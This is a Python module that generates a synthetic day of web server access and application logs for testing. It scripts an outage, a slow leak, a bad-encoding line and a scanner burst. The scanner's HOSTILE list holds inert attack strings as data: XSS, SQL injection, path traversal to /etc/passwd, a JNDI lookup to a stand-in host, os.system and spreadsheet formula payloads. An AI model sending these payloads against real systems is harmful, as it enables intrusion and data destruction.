"""A day of a web server: requests as JSON, and an application's log as plain lines."""

from __future__ import annotations

from collections.abc import Iterator
from heapq import merge
from typing import NamedTuple

import polars as pl

from workbench.samples.dice import Dice, Weighted
from workbench.samples.stream import (
    HOUR,
    MINUTE,
    TIME,
    Record,
    Story,
    TopicSample,
    encode,
    iso,
    millis,
    moment,
)
from workbench.schema import Schema

SMALLEST = 2_000

ACCESS = TopicSample(
    "access",
    partitions=3,
    key="client",
    schema=Schema(
        {
            "request": pl.String,
            "client": pl.String,
            "method": pl.String,
            "path": pl.String,
            "status": pl.Int32,
            "bytes": pl.Int64,
            "ms": pl.Int32,
            "agent": pl.String,
            "at": TIME,
        }
    ),
    about="one request each",
)
LINES = TopicSample(
    "lines",
    partitions=1,
    key=None,
    schema=None,
    about="the application's log, one line of text each",
)
TOPICS = (ACCESS, LINES)

STORIES = (
    Story(
        "incident",
        "The database has no free connections from 13:20 to 13:45: nearly half of the requests "
        "end in 503, and the others are slow.",
        "access",
        moment("2026-11-05T13:20"),
        moment("2026-11-05T13:45"),
    ),
    Story(
        "scan",
        "203.0.113.77 tries the door handles from 04:12 to 04:18: strings that are an attack on "
        "whoever renders or runs them, and here are data.",
        "access",
        moment("2026-11-05T04:12"),
        moment("2026-11-05T04:18"),
        "203.0.113.77",
    ),
    Story(
        "leak",
        "/reports/monthly gets slower hour by hour until the application restarts at 18:00.",
        "access",
        moment("2026-11-05T00:00"),
        moment("2026-11-05T18:00"),
    ),
    Story(
        "not-utf8",
        "One line of the log is in another encoding: its bytes are not UTF-8.",
        "lines",
        moment("2026-11-05T09:15"),
        moment("2026-11-05T09:16"),
    ),
)

START = millis("2026-11-05")
INCIDENT = START + 13 * HOUR + 20 * MINUTE, START + 13 * HOUR + 45 * MINUTE
SCAN = START + 4 * HOUR + 12 * MINUTE, 6 * MINUTE
RESTART = START + 18 * HOUR
LATIN = START + 9 * HOUR + 15 * MINUTE

# fmt: off
RHYTHM = (
    10, 6, 4, 3, 4, 7, 18, 40, 62, 74, 78, 80, 76, 90, 78, 74, 70, 66, 60, 54, 48, 40, 28, 16,
)
# fmt: on


class Page(NamedTuple):
    """A path, and quantiles of how long it takes in milliseconds."""

    method: str
    path: str
    ms: tuple[int, ...]


_FAST = (2, 3, 4, 5, 7, 9, 14, 30, 180)
_READ = (9, 14, 18, 23, 29, 38, 52, 95, 700)
_WRITE = (22, 34, 45, 58, 74, 96, 130, 240, 1_600)
_REPORT = (180, 220, 250, 280, 310, 350, 410, 560, 1_900)
PAGES = Weighted(
    {
        Page("GET", "/", _FAST): 22,
        Page("GET", "/assets/app.js", _FAST): 18,
        Page("GET", "/login", _FAST): 8,
        Page("POST", "/login", _WRITE): 7,
        Page("GET", "/orders", _READ): 16,
        Page("POST", "/orders", _WRITE): 8,
        Page("GET", "/search?q=oak+chair", _READ): 7,
        Page("GET", "/search?q=Größe%2042", _READ): 3,
        Page("GET", "/reports/monthly", _REPORT): 6,
        Page("GET", "/missing.png", _FAST): 2,
    }
)
AGENTS = Weighted(
    {
        "Mozilla/5.0 (X11; Linux x86_64) Firefox/148.0": 30,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/146.0": 50,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 20_1) Safari/620": 40,
        "uptime-check/2.1": 6,
    }
)
#: What a scanner sends.  It is never more than text.
HOSTILE = (
    "/.env",
    "/wp-login.php",
    "/../../../../etc/passwd",
    "/search?q=<script>alert(document.domain)</script>",
    "/search?q=<img src=x onerror=alert(1)>",
    "/search?q=' OR '1'='1' --",
    '/search?q="; DROP TABLE orders; --',
    "/search?q=${jndi:ldap://203.0.113.77/a}",
    "/search?q={{7*7}}",
    "/search?q=__import__('os').system('id')",
    "/search?q==cmd|'/C calc'!A0",
    "/search?q=\u202egnp.tsol",
    "/search?q=\x1b[2J\x1b[31mowned\x1b[0m",
    "/search?q=a\x00b",
    "/search?q=\ufeff\u200b\U0001f9ff",
    "/search?q=" + "A" * 600,
)


def records(events: int, seed: int) -> Iterator[Record]:
    """The day in exactly `events` records, in order of arrival."""
    server = Server(seed)
    scan = server.scan(max(events // 60, 48))
    times = server.dice.arrivals(events - len(scan) - 1, START, RHYTHM)
    latin = server.line(LATIN + 20_500, b"WARN  import: unknown customer 'J\xf6rg M\xfcller'")
    yield from merge(server.everyday(times), scan, [latin])


class Server:
    """The web server and its application."""

    def __init__(self, seed: int) -> None:
        self.dice = Dice("weblogs", seed)
        self._requests = 0
        self._records = 0

    def everyday(self, times: Iterator[int]) -> Iterator[Record]:
        """Requests, and the lines that some of them cause, which use up a time each."""
        dice = self.dice
        for at in times:
            page = PAGES.pick(dice)
            ms, status = dice.draw(page.ms), 200
            if page.path == "/reports/monthly" and at < RESTART:
                ms += (at - START) * 90 // HOUR
            if page.path == "/missing.png":
                status = 404
            elif page.path == "/login" and page.method == "POST" and dice.chance(0.08):
                status = 401
            elif INCIDENT[0] <= at < INCIDENT[1] and page.path != "/assets/app.js":
                ms, status = (5_000 + ms % 40, 503) if dice.chance(0.5) else (ms * 12, 200)
            elif dice.chance(0.002):
                status = 500
            client = f"198.51.100.{dice.between(1, 254)}"
            yield self._request(at, client, page.method, page.path, status, ms, AGENTS.pick(dice))
            text = self._text(page, status, ms)
            if text is not None and next(times, None) is not None:
                yield self.line(at + 1, text.encode())

    def _text(self, page: Page, status: int, ms: int) -> str | None:
        """What the application says about a request."""
        request = f"R-{self._requests:08d}"
        if status == 503:
            return f"ERROR pool: no connection after 5000 ms, request {request}"
        if status == 500:
            return f"ERROR orders: unexpected state, request {request}"
        if status == 401:
            return f"WARN  login: wrong password, request {request}"
        if ms > 1_000:
            return f"WARN  slow: {page.path} took {ms} ms, request {request}"
        if page.method == "POST" and page.path == "/orders":
            return f"INFO  orders: created, request {request}"
        return None

    def scan(self, count: int) -> list[Record]:
        """A scanner's requests at an even pace."""
        first, duration = SCAN
        return [
            self._request(
                first + n * duration // count,
                "203.0.113.77",
                "GET",
                HOSTILE[n % len(HOSTILE)],
                404 if n % len(HOSTILE) < 3 else 400,
                self.dice.draw(_FAST),
                '<a href="javascript:alert(1)">scanner</a>',
            )
            for n in range(count)
        ]

    def _request(
        self, at: int, client: str, method: str, path: str, status: int, ms: int, agent: str
    ) -> Record:
        self._requests += 1
        value = encode(
            {
                "request": f"R-{self._requests:08d}",
                "client": client,
                "method": method,
                "path": path,
                "status": status,
                "bytes": self.dice.between(180, 48_000) if status == 200 else 162,
                "ms": ms,
                "agent": agent,
                "at": iso(at),
            }
        )
        return self._record(ACCESS, at, client.encode(), value)

    def line(self, at: int, text: bytes) -> Record:
        """A line of the application's log."""
        return self._record(LINES, at, None, iso(at).encode() + b" " + text)

    def _record(self, topic: TopicSample, at: int, key: bytes | None, value: bytes) -> Record:
        self._records += 1
        return Record(at, self._records, topic.name, at, key, value)
